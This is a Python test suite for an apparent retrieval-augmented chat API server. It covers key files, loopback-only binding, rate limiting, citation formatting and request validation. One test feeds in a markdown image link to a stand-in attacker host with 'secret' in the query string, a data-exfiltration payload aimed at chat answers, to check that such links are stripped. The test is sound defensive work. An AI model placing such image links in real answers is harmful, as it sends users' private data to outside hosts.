"""`hearth api` as a command, its keys, its gate: what can be told without a model."""

import os
import signal
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from decoder.errors import SettingsError
from rag.filters import Access
from rag.types import Answer, Citation
from ui.api.citations import annotate, evidence, message_text, without_sources
from ui.api.errors import ApiRefusal
from ui.api.fields import items
from ui.api.gate import TokenBucket
from ui.api.keys import LOCAL, Keys, parse_keys, read_keys
from ui.api.requests import read_chat
from ui.loopback import is_loopback

ROOT = Path(__file__).resolve().parents[2]
KEY = "sk-test-0123456789abcdef"
CITED = Citation(1, "The rent is 900 euros.", "docs/le_ase*.pdf", "Lease", 10, 32, 3, 3, page=2, passage_id="p1")
WEB = Citation(2, "Bake it.", "https://example.com/a_b", "Bread", 0, 8, 1, 1)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.5", "example.com", ""])
def test_without_keys_other_machines_are_not_let_in(hearth, host):
    result = hearth("api", "--host", host, "--port", "0")
    assert result.code == 2
    assert "there are no keys" in result.err
    assert result.err.count("\n") == 1


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--kb", "none"], "there is no knowledge base none"),
        (["--keys", "missing.txt"], "missing.txt cannot be read"),
        (["--cors-origin", "*"], "without keys every web page"),
        (["--rate", "0"], "Invalid value"),
    ],
)
def test_what_cannot_be_served_as_asked(hearth, arguments, words):
    result = hearth("api", *arguments)
    assert result.code == 2
    assert words in result.err


def test_without_its_packages_it_says_what_to_install(hearth, monkeypatch):
    monkeypatch.setitem(sys.modules, "uvicorn", None)
    result = hearth("api")
    assert result.code == 2
    assert "pip install 'hearth[api]'" in result.err


@pytest.mark.parametrize("stop", [signal.SIGINT, signal.SIGTERM])
def test_it_runs_until_it_is_stopped(house, stop):
    command = [sys.executable, "-m", "ui.cli", "api", "--port", "0"]
    environment = os.environ | {
        "PYTHONPATH": str(ROOT),
        "HEARTH_API_KEYS": f"{KEY} = acme user:ann",
        "OMP_NUM_THREADS": "1",
    }
    process = subprocess.Popen(
        command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=house
    )
    try:
        line = process.stdout.readline()
        assert line.startswith("http://127.0.0.1:"), process.communicate(timeout=10)
        url = line.split(" ", 1)[0]
        reply = httpx.get(url + "/models", headers={"Authorization": f"Bearer {KEY}"})
        assert [each["id"] for each in reply.json()["data"]] == ["embedder"]
        assert httpx.get(url + "/models").status_code == 401
        process.send_signal(stop)
        out, err = process.communicate(timeout=30)
        assert process.returncode == (130 if stop == signal.SIGINT else -stop)
        assert "GET /v1/models 200" in err
        assert "Traceback" not in err
        assert KEY not in out + err
    finally:
        process.kill()
        process.wait(10)


def test_a_port_that_is_taken_is_said_to_be(hearth, monkeypatch, house):
    import socket

    from ui.api.models import Models

    monkeypatch.setattr(Models, "warm", lambda self: None)
    with socket.create_server(("127.0.0.1", 0)) as taken:
        result = hearth("api", "--port", taken.getsockname()[1])
    assert result.code == 2
    assert "cannot be used" in result.err


def test_keys_are_lines_with_a_tenant_and_principals(tmp_path):
    file = tmp_path / "keys"
    file.write_text(f"# staff\n{KEY} = acme user:ann group:staff\n\n{KEY}2 = - user:bob # open\n{KEY}3\n")
    keys = read_keys(file)
    found = [keys.caller(f"Bearer {KEY}{end}").access for end in ("", "2", "3")]
    assert found == [Access("acme", ("user:ann", "group:staff")), Access("", ("user:bob",)), Access()]
    assert KEY not in repr(keys)
    assert keys.caller(f"bearer {KEY}").name not in (KEY, KEY[:8])


def test_keys_come_from_the_environment_too(monkeypatch):
    monkeypatch.setenv("HEARTH_API_KEYS", f"{KEY} = acme;{KEY}2")
    assert len(read_keys(None).entries) == 2
    monkeypatch.delenv("HEARTH_API_KEYS")
    assert not read_keys(None)
    assert Keys().caller("") == LOCAL


@pytest.mark.parametrize(
    "line", ["short", "sk-with space-0123456789", f"{KEY}\u00e4", f"{KEY} = a,b", f"{KEY}\n{KEY}", "="]
)
def test_a_line_that_is_no_key_is_named_by_its_number_alone(line):
    with pytest.raises(SettingsError) as caught:
        parse_keys(line.splitlines(), "keys.txt")
    assert "keys.txt" in str(caught.value)
    assert KEY not in str(caught.value)


def test_a_file_without_keys_does_not_open_the_server(tmp_path):
    (tmp_path / "keys").write_text("# nothing\n")
    with pytest.raises(SettingsError, match="holds no key"):
        read_keys(tmp_path / "keys")


def test_tokens_come_back_with_time():
    now = 0.0
    bucket = TokenBucket(60, lambda: now)
    assert [bucket.take() for _ in range(60)] == [0.0] * 60
    assert bucket.take() == pytest.approx(1.0)
    now = 0.5
    assert bucket.take() == pytest.approx(0.5)
    now = 1.0
    assert bucket.take() == 0.0
    now = 10_000.0
    assert [bucket.take() for _ in range(61)].count(0.0) == 60


def test_what_only_this_machine_can_reach():
    assert all(map(is_loopback, ("127.0.0.1", "127.9.9.9", "::1", "[::1]", "localhost", "LOCALHOST")))
    assert not any(map(is_loopback, ("0.0.0.0", "::", "10.0.0.1", "localhost.example", "", "127.0.0.1.nip.io")))


def test_sources_are_listed_noted_and_given_whole():
    answer = Answer("It is 900 euros [1]. Bake it [2] [7].", (CITED, WEB), 0.9)
    text = message_text(answer)
    assert text.endswith("\n\nSources:\n\n- [1] docs/le\\_ase\\*.pdf, page 2\n- [2] https://example.com/a_b, line 1")
    assert without_sources(text) == answer.text
    file, web = annotate(answer)
    assert text[file["file_citation"]["start_index"] : file["file_citation"]["end_index"]] == "[1]"
    assert file["file_citation"]["filename"] == "le_ase*.pdf"
    assert web["url_citation"]["url"] == "https://example.com/a_b"
    assert evidence(answer)["citations"][0]["page"] == 2


def test_a_picture_in_a_document_is_not_loaded_by_a_readers_browser():
    answer = Answer("See ![x](https://evil.example/?q=secret) [1].", (CITED,))
    text = message_text(answer)
    assert "![" not in text
    (note,) = annotate(answer)
    assert text[note["file_citation"]["start_index"] : note["file_citation"]["end_index"]] == "[1]"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
NAMES = ["model", "messages", "temperature", "n", "stop", "stream", "stream_options", "response_format", "tools"]
NAMES += ["tool_choice", "hearth", "max_tokens", "logprobs", "top_logprobs", "seed"]
messages = st.lists(
    st.fixed_dictionaries({"role": st.sampled_from(["user", "assistant", "tool", "x"]), "content": json_values}),
    max_size=3,
)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(st.sampled_from(NAMES), json_values), st.none() | messages)
def test_any_json_is_a_request_or_a_refusal(body, talk):
    try:
        read_chat(body if talk is None else {"model": "x", **body, "messages": talk})
    except ApiRefusal as error:
        assert error.status == 400
        assert error.param


def test_a_list_that_is_too_long_is_refused():
    with pytest.raises(ApiRefusal, match="at most 2"):
        items({"a": [1, 2, 3]}, "a", 2)
